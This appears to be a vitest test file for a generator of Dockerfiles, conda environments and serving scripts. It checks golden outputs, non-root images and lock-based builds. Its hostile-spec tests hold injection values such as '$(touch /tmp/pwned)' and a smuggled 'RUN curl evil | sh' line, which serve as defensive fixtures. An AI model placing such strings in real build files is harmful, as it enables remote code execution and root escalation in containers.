/**
 * The rendered files: golden copies for each source, CPU and GPU, each base, several models and
 * a bundle; Dockerfiles read back with a real Dockerfile parser (dockerfile-ast) and YAML read
 * back with the yaml parser; hostile values shown not to leak.
 */
import { mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { DockerfileParser, type Instruction } from 'dockerfile-ast';
import { execa } from 'execa';
import { describe, expect, it } from 'vitest';
import { parse as parseYaml } from 'yaml';
import { resolveSpec } from '../../src/compat/resolve-spec.js';
import { compatTable } from '../../src/compat/table.js';
import { type PlannedFile, renderPlan } from '../../src/render/plan.js';
import { sealState } from '../../src/render/seal.js';
import { parseSpecText } from '../../src/spec/load-spec.js';

const MATRIX = readFileSync(
  new URL('../../fixtures/render-matrix/envgen.yaml', import.meta.url),
  'utf8',
);

function plan(specText: string): PlannedFile[] {
  const loaded = parseSpecText(specText, 'envgen.yaml');
  const { models, problems } = resolveSpec(compatTable(), loaded, Object.keys(loaded.spec.models));
  expect(problems).toEqual([]);
  return renderPlan({ specFile: 'envgen.yaml', spec: loaded.spec, models, version: '0.0.0-test' });
}

const files = plan(MATRIX);
const file = (path: string): string => {
  const found = files.find((f) => f.path === path);
  if (!found) throw new Error(`no ${path} in the plan: ${files.map((f) => f.path).join(', ')}`);
  return found.content;
};
const dockerfiles = files.filter((f) => f.path.endsWith('Dockerfile'));

function instructions(text: string): Instruction[] {
  return DockerfileParser.parse(text).getInstructions();
}

/** The stages of a Dockerfile, each a list of instructions (FROM first). */
function stages(text: string): Instruction[][] {
  const out: Instruction[][] = [];
  for (const instruction of instructions(text)) {
    if (instruction.getKeyword() === 'FROM') out.push([]);
    out.at(-1)?.push(instruction);
  }
  return out;
}

describe('golden files', () => {
  it.each(files.map((f) => [f.path, f] as const))('%s', async (path, planned) => {
    await expect(planned.content).toMatchFileSnapshot(`__golden__/matrix/${path}`);
  });

  it('plans the files of every model, the bundle and the shared files', () => {
    expect(files.map((f) => f.path)).toEqual(
      [
        '.dockerignore',
        'bundles/serving/Dockerfile',
        'bundles/serving/envgen-run',
        'docker-bake.hcl',
        ...['batch', 'chat', 'tagger', 'vision-forge', 'wheels'].flatMap((m) => [
          `envs/${m}/Dockerfile`,
          `envs/${m}/environment.yml`,
        ]),
        // Served models: the start script and systemd unit for `envgen rollout`'s machines.
        ...['chat', 'vision-forge', 'wheels'].flatMap((m) => [
          `envs/${m}/envgen-serve`,
          `envs/${m}/envgen-serve@.service`,
        ]),
        'envs/smoke_check.py',
      ].sort((a, b) => a.localeCompare(b)),
    );
  });

  it('is deterministic: the same spec gives the same bytes', () => {
    expect(plan(MATRIX)).toEqual(files);
  });

  it('seals every file: the header hash matches, and any edit breaks it', () => {
    for (const f of files) {
      expect(sealState(f.content)).toBe('intact');
      expect(sealState(f.content.replace('\n', '\n# a hand edit\n'))).toBe('broken');
    }
  });
});

describe('environment.yml', () => {
  const envs = files
    .filter((f) => f.path.endsWith('environment.yml'))
    .map((f) => [f.path, parseYaml(f.content)] as const);

  it.each(envs)('%s reads back as a conda environment without defaults', (_path, env) => {
    expect(env.channels).toContain('nodefaults');
    expect(env.channels).not.toContain('defaults');
    const python = env.dependencies.find(
      (d: unknown) => typeof d === 'string' && d.startsWith('python='),
    );
    expect(python).toMatch(/^python=3\.\d+$/);
    const pip = env.dependencies.find((d: unknown) => typeof d === 'object');
    if (pip) expect(env.dependencies).toContain('pip');
  });

  it('pytorch channel GPU: pytorch-cuda, with conda-forge after the pytorch channels', () => {
    const env = parseYaml(file('envs/chat/environment.yml'));
    expect(env.channels).toEqual(['pytorch', 'nvidia', 'conda-forge', 'nodefaults']);
    expect(env.dependencies).toEqual(
      expect.arrayContaining([
        'pytorch==2.1.2',
        'torchvision==0.16.2',
        'pytorch-cuda=11.8',
        'transformers>=4.35',
      ]),
    );
    expect(env.dependencies.at(-1)).toEqual({ pip: ['opentelemetry-sdk'] });
  });

  it('pytorch channel CPU: cpuonly', () => {
    expect(parseYaml(file('envs/tagger/environment.yml')).dependencies).toContain('cpuonly');
  });

  it('conda-forge GPU: a build-string selector and cuda-version, so no CPU fallback', () => {
    const env = parseYaml(file('envs/vision-forge/environment.yml'));
    expect(env.channels).toEqual(['conda-forge', 'nodefaults']);
    expect(env.dependencies).toEqual(
      expect.arrayContaining(['pytorch=2.11.0=cuda129*', 'cuda-version=12.9']),
    );
  });

  it('pip wheels: python and pip from conda, torch from the CUDA index with its label', () => {
    const env = parseYaml(file('envs/wheels/environment.yml'));
    const pip = env.dependencies.find((d: unknown) => typeof d === 'object').pip;
    expect(pip.slice(0, 2)).toEqual([
      '--extra-index-url https://download.pytorch.org/whl/cu128',
      'torch==2.8.0+cu128',
    ]);
    expect(pip).toEqual(expect.arrayContaining(['fastapi>=0.110', 'uvicorn[standard]']));
    expect(
      parseYaml(file('envs/batch/environment.yml')).dependencies.find(
        (d: unknown) => typeof d === 'object',
      ).pip,
    ).toContain('torch==2.4.1+cpu');
  });
});

describe('Dockerfiles, read back with dockerfile-ast', () => {
  it.each(dockerfiles.map((f) => [f.path, f.content] as const))(
    '%s is multi-stage, non-root, exec-form, no conda run',
    (_path, text) => {
      expect(text.split('\n')[0]).toBe('# syntax=docker/dockerfile:1');
      const all = stages(text);
      expect(all.length).toBeGreaterThanOrEqual(2);
      const runtime = all.at(-1) as Instruction[];
      const keywords = runtime.map((i) => i.getKeyword());
      expect(keywords).toContain('USER');
      const user = runtime.filter((i) => i.getKeyword() === 'USER').at(-1);
      expect(user?.getArgumentsContent()).toBe('app');
      const cmd = runtime.find((i) => i.getKeyword() === 'CMD');
      expect(() => JSON.parse(cmd?.getArgumentsContent() ?? '')).not.toThrow();
      expect(text).not.toMatch(/conda run/);
      const env = runtime
        .filter((i) => i.getKeyword() === 'ENV')
        .map((i) => i.getArgumentsContent())
        .join(' ');
      for (const variable of [
        'NVIDIA_VISIBLE_DEVICES=all',
        'NVIDIA_DRIVER_CAPABILITIES=compute,utility',
        'PYTHONUNBUFFERED=1',
      ]) {
        expect(env).toContain(variable);
      }
      // Only the environment crosses from the build stages, at the same path.
      for (const copy of runtime.filter(
        (i) => i.getKeyword() === 'COPY' && (i.getArgumentsContent() ?? '').startsWith('--from='),
      )) {
        const [, from, to] = (copy.getArgumentsContent() ?? '').split(/\s+/);
        expect(from).toBe(to);
      }
      // The environment file is copied before any application code.
      const firstEnvCopy = text.indexOf('/tmp/envgen/environment.yml');
      expect(firstEnvCopy).toBeGreaterThan(-1);
      expect(firstEnvCopy).toBeLessThan(text.indexOf('COPY --chown=app:app . /app'));
    },
  );

  it('GPU builds set CONDA_OVERRIDE_CUDA in the build stage, CPU builds do not', () => {
    expect(file('envs/chat/Dockerfile')).toContain('ENV CONDA_OVERRIDE_CUDA=11.8');
    expect(file('envs/vision-forge/Dockerfile')).toContain('ENV CONDA_OVERRIDE_CUDA=12.9');
    expect(file('envs/tagger/Dockerfile')).not.toContain('CONDA_OVERRIDE_CUDA');
  });

  it('each base uses its own image and idiom, with a BuildKit cache mount', () => {
    const build = (path: string) =>
      (stages(file(path))[0] ?? [])
        .map((i) => `${i.getKeyword()} ${i.getArgumentsContent()}`)
        .join('\n');
    expect(build('envs/chat/Dockerfile')).toMatch(/^FROM continuumio\/miniconda3:[0-9]/);
    expect(build('envs/chat/Dockerfile')).toContain(
      'conda env create --yes --file /tmp/envgen/environment.yml --prefix /opt/env',
    );
    expect(build('envs/vision-forge/Dockerfile')).toMatch(/^FROM condaforge\/miniforge3:[0-9]/);
    expect(build('envs/wheels/Dockerfile')).toMatch(/^FROM mambaorg\/micromamba:[0-9]/);
    expect(build('envs/wheels/Dockerfile')).toContain(
      'micromamba create --yes --strict-channel-priority --prefix /opt/env --file /tmp/envgen/environment.yml',
    );
    for (const f of dockerfiles)
      expect(f.content).toMatch(/--mount=type=cache,target=\/opt\/conda\/pkgs/);
    for (const f of dockerfiles) expect(f.content).not.toMatch(/:latest\b/);
  });

  it('served models get EXPOSE and a HEALTHCHECK; the CMD runs the environment’s own programs', () => {
    const runtime = stages(file('envs/wheels/Dockerfile')).at(-1) as Instruction[];
    expect(runtime.find((i) => i.getKeyword() === 'EXPOSE')?.getArgumentsContent()).toBe('8000');
    expect(runtime.find((i) => i.getKeyword() === 'HEALTHCHECK')?.getArgumentsContent()).toContain(
      'http://127.0.0.1:8000/health',
    );
    expect(
      JSON.parse(runtime.find((i) => i.getKeyword() === 'CMD')?.getArgumentsContent() ?? ''),
    ).toEqual(['/opt/env/bin/uvicorn', 'main:app', '--host', '0.0.0.0', '--port', '8000']);
    const tagger = stages(file('envs/tagger/Dockerfile')).at(-1) as Instruction[];
    expect(
      tagger.some((i) => i.getKeyword() === 'EXPOSE' || i.getKeyword() === 'HEALTHCHECK'),
    ).toBe(false);
    expect(
      JSON.parse(tagger.find((i) => i.getKeyword() === 'CMD')?.getArgumentsContent() ?? ''),
    ).toEqual(['/opt/env/bin/python', '/opt/envgen/smoke_check.py']);
  });

  it('records the pins in OCI labels', () => {
    const labels =
      (stages(file('envs/chat/Dockerfile')).at(-1) ?? [])
        .find((i) => i.getKeyword() === 'LABEL')
        ?.getArgumentsContent() ?? '';
    for (const label of [
      'dev.envgen.torch="2.1.2"',
      'dev.envgen.cuda="11.8"',
      'dev.envgen.python="3.11"',
      'dev.envgen.torchvision="0.16.2"',
      'org.opencontainers.image.title="chat"',
    ]) {
      expect(labels).toContain(label);
    }
  });

  it('the bundle image builds one environment per model and dispatches by name', () => {
    const bundle = file('bundles/serving/Dockerfile');
    const all = stages(bundle);
    expect(all).toHaveLength(3);
    expect(bundle).toContain('COPY --from=build-chat /opt/envs/chat /opt/envs/chat');
    expect(bundle).toContain(
      'COPY --from=build-vision-forge /opt/envs/vision-forge /opt/envs/vision-forge',
    );
    const runtime = all.at(-1) as Instruction[];
    expect(
      JSON.parse(runtime.find((i) => i.getKeyword() === 'ENTRYPOINT')?.getArgumentsContent() ?? ''),
    ).toEqual(['/usr/local/bin/envgen-run']);
  });
});

describe('docker-bake.hcl', () => {
  it('has one target per model and bundle, with the platform of each', () => {
    const bake = file('docker-bake.hcl');
    expect(bake).toContain(
      'targets = ["chat", "tagger", "vision-forge", "wheels", "batch", "serving"]',
    );
    const block = (target: string) =>
      bake.slice(bake.indexOf(`target "${target}" {`)).split('\n}')[0] ?? '';
    expect(block('batch')).toContain('platforms  = ["linux/arm64"]');
    expect(block('chat')).toContain('platforms  = ["linux/amd64"]');
    expect(block('chat')).toContain('dockerfile = "envs/chat/Dockerfile"');
    expect(block('serving')).toContain('dockerfile = "bundles/serving/Dockerfile"');
  });
});

describe('hostile specs', () => {
  const hostileArgs = [
    '--name',
    "it's",
    'say "hi"',
    '$(touch /tmp/pwned)',
    '`id`',
    'a;b && c | d',
    'back\\slash',
    '*',
    '$HOME',
  ];
  const hostile = `version: 1
models:
  evil:
    torch: "2.4"
    cuda: cpu
    source: pip
    conda: ["numpy>=1.26,<2"]
    pip: ['requests[socks]==2.31; python_version < "3.13"', "pkg @ https://example.com/p.whl#sha256=ab"]
    serve:
      command: ${JSON.stringify(['python', ...hostileArgs])}
      port: 8080
      health: /x/y_z-1.0~
bundles:
  pack: [evil]
`;
  const hostileFiles = plan(hostile);
  const get = (path: string) => hostileFiles.find((f) => f.path === path)?.content ?? '';

  it('every argument reaches the exec-form CMD exactly', () => {
    const runtime = stages(get('envs/evil/Dockerfile')).at(-1) as Instruction[];
    expect(
      JSON.parse(runtime.find((i) => i.getKeyword() === 'CMD')?.getArgumentsContent() ?? ''),
    ).toEqual(['/opt/env/bin/python', ...hostileArgs]);
    // No argument opened a new Dockerfile instruction: same instructions as with plain arguments.
    const benign = plan(
      hostile.replace(JSON.stringify(['python', ...hostileArgs]), '[python, app.py]'),
    );
    const keywords = (text: string) => instructions(text).map((i) => i.getKeyword());
    expect(keywords(get('envs/evil/Dockerfile'))).toEqual(
      keywords(benign.find((f) => f.path === 'envs/evil/Dockerfile')?.content ?? ''),
    );
  });

  it('pip requirements with quotes and markers read back unchanged', () => {
    const env = parseYaml(get('envs/evil/environment.yml'));
    const pip = env.dependencies.find((d: unknown) => typeof d === 'object').pip;
    expect(pip).toEqual(
      expect.arrayContaining([
        'requests[socks]==2.31; python_version < "3.13"',
        'pkg @ https://example.com/p.whl#sha256=ab',
      ]),
    );
    expect(env.dependencies).toContain('numpy>=1.26,<2');
  });

  it('the dispatcher passes every argument through the shell unchanged', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'envgen-dispatch-'));
    // Replace `exec` with printf to see the arguments the shell would hand to the program.
    const script = get('bundles/pack/envgen-run').replace(/exec (\S+)/g, "printf '%s\\n' $1");
    writeFileSync(join(dir, 'envgen-run'), script);
    const { stdout } = await execa('sh', [join(dir, 'envgen-run'), 'evil', 'extra arg']);
    expect(stdout.split('\n')).toEqual(['/opt/envs/evil/bin/python', ...hostileArgs, 'extra arg']);
    const unknown = await execa('sh', [join(dir, 'envgen-run'), 'nope'], { reject: false });
    expect(unknown.exitCode).toBe(64);
  });
});

describe('the last guard before rendering', () => {
  it('refuses a value with a line break even if it got past validation', () => {
    const loaded = parseSpecText(
      'version: 1\nmodels:\n  m:\n    torch: "2.4"\n    cuda: cpu\n    source: pip\n',
      'envgen.yaml',
    );
    const { models } = resolveSpec(compatTable(), loaded, ['m']);
    const tampered = models.map((m) => ({
      ...m,
      dependencies: [...m.dependencies, 'numpy\nRUN curl evil | sh'],
    }));
    expect(() =>
      renderPlan({ specFile: 'envgen.yaml', spec: loaded.spec, models: tampered, version: '0' }),
    ).toThrow(/control character|one-line/);
    const inDockerfile = models.map((m) => ({ ...m, cuda: '12.1\nUSER root' }));
    expect(() =>
      renderPlan({
        specFile: 'envgen.yaml',
        spec: loaded.spec,
        models: inDockerfile,
        version: '0',
      }),
    ).toThrow(/control character|one-line/);
  });
});

describe('Dockerfiles of locked models (envgen lock)', () => {
  const loaded = parseSpecText(MATRIX, 'envgen.yaml');
  const { models } = resolveSpec(compatTable(), loaded, Object.keys(loaded.spec.models));
  const locked = renderPlan({
    specFile: 'envgen.yaml',
    spec: loaded.spec,
    models,
    version: '0.0.0-test',
    locked: new Set(models.map((m) => m.name)),
  });
  const lockedDockerfiles = locked.filter((f) => f.path.endsWith('Dockerfile'));

  it.each(lockedDockerfiles.map((f) => [f.path, f] as const))('%s (golden)', async (path, f) => {
    await expect(f.content).toMatchFileSnapshot(`__golden__/locked/${path}`);
  });

  it('install from the lock with no solve: no environment.yml, no CONDA_OVERRIDE_CUDA', () => {
    for (const f of lockedDockerfiles) {
      expect(f.content).not.toContain('environment.yml');
      expect(f.content).not.toContain('CONDA_OVERRIDE_CUDA');
      const lockCopy = f.content.indexOf('/tmp/envgen/conda.lock');
      expect(lockCopy).toBeGreaterThan(-1);
      expect(lockCopy).toBeLessThan(f.content.indexOf('COPY --chown=app:app . /app'));
    }
    const build = (path: string) =>
      (stages(locked.find((f) => f.path === path)?.content ?? '')[0] ?? [])
        .map((i) => `${i.getKeyword()} ${i.getArgumentsContent()}`)
        .join('\n');
    expect(build('envs/chat/Dockerfile')).toContain(
      'conda create --yes --prefix /opt/env --override-channels --channel pytorch --channel nvidia --channel conda-forge --file /tmp/envgen/conda.lock',
    );
    expect(build('envs/wheels/Dockerfile')).toContain(
      'micromamba create --yes --prefix /opt/env --file /tmp/envgen/conda.lock',
    );
    // pip wheels come from the companion, installed by the environment's own pip.
    expect(build('envs/wheels/Dockerfile')).toContain(
      'COPY envs/wheels/pip-requirements.txt /tmp/envgen/pip-requirements.txt',
    );
    expect(build('envs/wheels/Dockerfile')).toContain(
      '/opt/env/bin/python -m pip install --requirement /tmp/envgen/pip-requirements.txt',
    );
    expect(build('envs/tagger/Dockerfile')).not.toContain('pip-requirements.txt');
  });

  // The matrix's environment files carry deliberate findings (the pytorch channel, unpinned pip
  // packages); the lock changes only the Dockerfiles, so those are what is audited here.
  it('pass envgen audit at the default threshold', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'envgen-locked-'));
    for (const f of locked) {
      const path = join(dir, f.path);
      const { mkdirSync } = await import('node:fs');
      mkdirSync(join(path, '..'), { recursive: true });
      writeFileSync(path, f.content);
    }
    const { runEnvgen } = await import('../helpers/run-cli.js');
    const paths = lockedDockerfiles.map((f) => f.path);
    const result = await runEnvgen(['audit', '--format', 'json', ...paths], { cwd: dir });
    const { diagnostics } = JSON.parse(result.stdout) as { diagnostics: { severity: string }[] };
    expect(diagnostics.filter((d) => d.severity !== 'info')).toEqual([]);
    expect(result.exitCode).toBe(0);
  });
});

describe("the repo's own packages and VCS requirements", () => {
  const spec = (extra: string, base = 'miniconda') =>
    `version: 1\nmodels:\n  m:\n    torch: "2.4"\n    cuda: "12.1"\n    base: ${base}\n${extra}`;

  it.each(['miniconda', 'miniforge', 'micromamba'])(
    'localPackages: %s installs each folder from a mount of the repo, after the environment, without dependencies',
    (base) => {
      const planned = plan(spec('    localPackages: [".", "./packages/core"]\n', base));
      const dockerfile = planned.find((f) => f.path === 'envs/m/Dockerfile')?.content ?? '';
      const [build = []] = stages(dockerfile);
      const runs = build
        .filter((i) => i.getKeyword() === 'RUN')
        .map((i) => i.getArgumentsContent());
      expect(runs).toHaveLength(2);
      const install = runs[1] ?? '';
      expect(dockerfile).toContain('RUN --mount=type=bind,target=/tmp/envgen/repo');
      // Built from a copy without envs/ (setuptools' flat-layout discovery would take it for a
      // second package), and the copy is removed in the same step.
      expect(install).toContain(
        'cp -a /tmp/envgen/repo /tmp/envgen/src && rm -rf /tmp/envgen/src/envs',
      );
      expect(install).toContain(
        'SETUPTOOLS_SCM_PRETEND_VERSION=0.0.0 /opt/env/bin/python -m pip install --no-deps /tmp/envgen/src /tmp/envgen/src/packages/core',
      );
      expect(install).toMatch(/&& rm -rf \/tmp\/envgen\/src$/);
      // The environment exists first: the repo's package is installed into it, not instead of it.
      expect(runs[0]).toMatch(/(create|env create)/);
    },
  );

  it('localPackages also follow a lock', () => {
    const loaded = parseSpecText(spec('    localPackages: ["."]\n'), 'envgen.yaml');
    const { models } = resolveSpec(compatTable(), loaded, ['m']);
    const planned = renderPlan({
      specFile: 'envgen.yaml',
      spec: loaded.spec,
      models,
      version: '0.0.0-test',
      locked: new Set(['m']),
    });
    const dockerfile = planned.find((f) => f.path === 'envs/m/Dockerfile')?.content ?? '';
    expect(dockerfile.indexOf('pip install --no-deps /tmp/envgen/src')).toBeGreaterThan(
      dockerfile.indexOf('/tmp/envgen/conda.lock'),
    );
  });

  it('without localPackages there is no second RUN', () => {
    const dockerfile = plan(spec('')).find((f) => f.path === 'envs/m/Dockerfile')?.content ?? '';
    expect(dockerfile).not.toContain('/tmp/envgen/src');
  });

  it.each([['../outside'], ['/abs'], ['a/../../b'], ['has space']])(
    'refuses localPackages %s: only folders inside the repo',
    (path) => {
      expect(() =>
        parseSpecText(spec(`    localPackages: [${JSON.stringify(path)}]\n`), 'envgen.yaml'),
      ).toThrow(/localPackages/);
    },
  );

  it('a VCS pip requirement brings git into the environment, which pip needs to clone it', () => {
    const planned = plan(
      spec('    pip: ["clip @ git+https://github.com/openai/CLIP.git@dcba3cb"]\n'),
    );
    const env = parseYaml(planned.find((f) => f.path === 'envs/m/environment.yml')?.content ?? '');
    expect(env.dependencies).toContain('git');
    const plain = plan(spec('    pip: ["ftfy==6.1.1"]\n'));
    const plainEnv = parseYaml(
      plain.find((f) => f.path === 'envs/m/environment.yml')?.content ?? '',
    );
    expect(plainEnv.dependencies).not.toContain('git');
  });
});
